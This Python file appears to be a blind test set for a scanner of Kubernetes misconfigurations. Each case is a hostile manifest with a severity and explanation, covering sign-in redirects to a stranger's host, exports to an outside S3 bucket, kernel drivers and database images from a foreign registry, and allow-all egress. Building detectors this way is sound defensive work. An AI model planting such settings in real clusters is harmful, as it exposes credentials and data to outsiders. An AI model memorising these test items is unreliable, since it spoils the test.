"""Attacks on clusters by networks, routes and places outside of the country (2026-11-29, twelfth set, blind).

Objects by the documentation of Kubernetes and of the operators, as known.
"""

import json

from ..blind import TAGS, THEIR_SUB, THEM, crd, k8s, meta
from ..harness import Given
from . import Attack

OPEN = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-", "FJ-RES-", "FJ-ENC-")
ENC = ("FJ-ENC-", "FJ-EXP-", "FJ-ESC-")
RES = ("FJ-RES-", "FJ-ESC-", "FJ-IDN-", "FJ-EXP-")


def _top(kind: str, name: str, spec: object) -> Given:
    return k8s(kind, {"metadata": {"name": name, "labels": TAGS}, "spec": spec}, name)


AWAY = {"type": "redirect", "redirectConfig": {
    "host": "login.collector.io", "path": "/#{path}", "query": "#{query}", "port": "443", "protocol": "HTTPS",
    "statusCode": "HTTP_302"}}  # fmt: skip
THEIR_GROUP = f"arn:aws:elasticloadbalancing:me-central-1:{THEM}:targetgroup/inbox/6d0ecf831eec9f09"
LITTLE = {"requests": {"cpu": "1", "memory": "2Gi"}, "limits": {"cpu": "1", "memory": "2Gi"}}

ATTACKS = (
    Attack("the name of the object store is a team's pod for the whole mesh", OPEN, (
        crd("networking.istio.io/v1:ServiceEntry", {
            "hosts": ["minio.dc1.example.ae"], "location": "MESH_INTERNAL", "resolution": "STATIC",
            "ports": [{"number": 9000, "name": "tcp-store", "protocol": "TCP"}],
            "workloadSelector": {"labels": {"app": "x"}}}),),
        "critical", "callers of every namespace send their models and their keys to the team (Istio, 'Service Entry', "
        "workloadSelector; exportTo is every namespace)"),
    Attack("a database is reached by every host name and in plain text", ENC, (
        crd("traefik.io/v1alpha1:IngressRouteTCP", {"entryPoints": ["postgres"], "routes": [{
            "match": "HostSNI(`*`)", "services": [{"name": "pg-rw", "port": 5432}]}]}),),
        "major", "passwords and rows cross the network in plain text, past the policies of the namespace (Traefik, "
        "'IngressRouteTCP': without TLS only HostSNI(`*`) matches)"),
    Attack("callers of a server of the mesh need TLS and no identity", OPEN, (
        crd("policy.linkerd.io/v1beta1:ServerAuthorization", {
            "server": {"name": "api"}, "client": {"meshTLS": {"unauthenticatedTLS": True}}}),),
        "major", "each pod that speaks TLS calls the server, whoever it is (Linkerd, 'Authorization Policy', "
        "ServerAuthorization, unauthenticatedTLS)"),
    Attack("a machine of a stranger joins the mesh of Linkerd as a workload", RES, (
        k8s("workload.linkerd.io/v1beta1:ExternalWorkload", {
            "metadata": meta("api-9", "payments") | {"labels": {**TAGS, "app": "api"}},
            "spec": {"workloadIPs": [{"ip": "198.51.100.31"}], "ports": [{"port": 8443, "name": "https"}],
                     "meshTLS": {"identity": "spiffe://root.linkerd.cluster.local/api-9",
                                 "serverName": "api-9.cluster.local"}}}),),
        "critical", "a part of the calls to payments ends at the stranger (Linkerd, 'Non-Kubernetes workloads')"),
    Attack("every pod may call the internet, whatever its namespace says", OPEN, (
        _top("policy.networking.k8s.io/v1alpha1:AdminNetworkPolicy", "updates", {
            "priority": 10, "subject": {"namespaces": {}}, "egress": [{
                "name": "out", "action": "Allow", "to": [{"networks": ["0.0.0.0/0"]}]}]}),),
        "critical", "no policy of a namespace can refuse it, and data leave (Network Policy API, 'AdminNetworkPolicy', "
        "egress networks)"),
    Attack("the cluster tells its routers that every address is its own", OPEN, (
        _top("crd.projectcalico.org/v1:BGPConfiguration", "default", {
            "asNumber": 64512, "nodeToNodeMeshEnabled": True, "serviceExternalIPs": [{"cidr": "0.0.0.0/0"}]}),),
        "critical", "a service with an external address takes what the network sends to that address (Calico, "
        "'Advertise Kubernetes service IP addresses')"),
    Attack("pods become targets of a balancer in the account of a stranger", RES, (
        crd("elbv2.k8s.aws/v1beta1:TargetGroupBinding", {
            "targetGroupARN": THEIR_GROUP, "targetType": "ip", "vpcID": "vpc-0a1b2c3d4e5f60718",
            "iamRoleArnToAssume": f"arn:aws:iam::{THEM}:role/targets", "assumeRoleExternalId": "bank",
            "serviceRef": {"name": "ledger", "port": 8443}}),),
        "critical", "the stranger's balancer publishes the service of the bank (AWS Load Balancer Controller, "
        "'TargetGroupBinding', AssumeRole)"),
    Attack("an ALB sends customers to the host of a stranger", RES, (k8s("networking.k8s.io/v1:Ingress", {
        "metadata": meta("bank", annotations={
            "alb.ingress.kubernetes.io/scheme": "internal",
            "alb.ingress.kubernetes.io/listen-ports": '[{"HTTPS": 443}]',
            "alb.ingress.kubernetes.io/backend-protocol": "HTTPS",
            "alb.ingress.kubernetes.io/actions.sign-in": json.dumps(AWAY)}),
        "spec": {"ingressClassName": "alb", "tls": [{"hosts": ["bank.example.ae"], "secretName": "bank"}],
                 "rules": [{"host": "bank.example.ae", "http": {"paths": [{
                     "path": "/sign-in", "pathType": "Prefix", "backend": {"service": {
                         "name": "sign-in", "port": {"name": "use-annotation"}}}}]}}]}}),),
        "critical", "customers type their passwords at the stranger's page (AWS Load Balancer Controller, "
        "'Ingress annotations', actions)"),
    Attack("machines of AKS stand in the network of a stranger", RES, (
        _top("karpenter.azure.com/v1beta1:AKSNodeClass", "general", {
            "imageFamily": "AzureLinux", "osDiskSizeGB": 128, "tags": TAGS,
            "vnetSubnetID": f"{THEIR_SUB}/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/v/subnets/s"}),
        ),
        "critical", "the stranger routes and reads what pods send (Karpenter for Azure, 'AKSNodeClass', vnetSubnetID)"),
    Attack("drivers of network cards come from the registry of a stranger", OPEN, (
        _top("mellanox.com/v1alpha1:NicClusterPolicy", "nic-cluster-policy", {"ofedDriver": {
            "image": "doca-driver", "repository": "registry.collector.io/mellanox", "version": "25.07-0.9.7.0"}}),),
        "critical", "they run in the kernel of every machine (NVIDIA Network Operator, 'NicClusterPolicy', "
        "ofedDriver)"),
    Attack("metrics are fetched through the proxy of a stranger", RES, (
        crd("monitoring.coreos.com/v1:ServiceMonitor", {
            "selector": {"matchLabels": {"app": "x"}}, "endpoints": [{
                "port": "metrics", "interval": "30s", "proxyUrl": "http://proxy.collector.io:3128"}]}),),
        "critical", "figures of the service and the token of the scrape pass through a host abroad (Prometheus "
        "Operator, 'API reference', Endpoint, proxyUrl)"),
    Attack("alerts of a ruler go to the Alertmanager of a stranger", RES, (
        k8s("monitoring.coreos.com/v1:ThanosRuler", {"metadata": meta("rules", "monitoring"), "spec": {
            "replicas": 2, "podMetadata": {"labels": TAGS}, "resources": LITTLE, "serviceAccountName": "ruler",
            "queryEndpoints": ["dnssrv+_https._tcp.thanos-query.monitoring.svc.cluster.local"],
            "ruleSelector": {"matchLabels": {"role": "alerts"}},
            "alertmanagersUrl": ["https://alerts.collector.io"]}}),),
        "critical", "labels and values of each alert leave the country (Prometheus Operator, 'API reference', "
        "ThanosRulerSpec, alertmanagersUrl)"),
    Attack("volumes of a class are exported to the bucket of a stranger", RES, (k8s("storage.k8s.io/v1:StorageClass", {
        "metadata": {"name": "lustre", "labels": TAGS}, "provisioner": "fsx.csi.aws.com", "parameters": {
            "subnetId": "subnet-0a1b2c3d4e5f60718", "securityGroupIds": "sg-0a1b2c3d4e5f60718",
            "deploymentType": "PERSISTENT_1", "perUnitStorageThroughput": "50", "autoImportPolicy": "NEW_CHANGED",
            "s3ImportPath": "s3://collector-archive", "s3ExportPath": "s3://collector-archive/out"}}),),
        "critical", "what pods write is copied to the stranger (Amazon FSx CSI driver, 'Dynamic provisioning with data "
        "repository', s3ExportPath)"),
    Attack("databases start from an image of a stranger by their catalogue", OPEN, (
        crd("postgresql.cnpg.io/v1:ImageCatalog", {"images": [
            {"major": 17, "image": "docker.io/collector/postgresql:17.6"}]}),),
        "critical", "a program of the stranger runs beside the rows (CloudNativePG, 'Image Catalog')"),
    Attack("a class of secrets reads the vault in plain text", ENC, (
        crd("secrets-store.csi.x-k8s.io/v1:SecretProviderClass", {"provider": "vault", "parameters": {
            "vaultAddress": "http://vault.security.svc.cluster.local:8200", "roleName": "app",
            "objects": '- objectName: "db"\n  secretPath: "secret/data/team-a/db"\n  secretKey: "password"\n'}}),),
        "major", "tokens and secrets cross the network in plain text (Vault CSI provider, 'Configurations', "
        "vaultAddress)"),
)  # fmt: skip
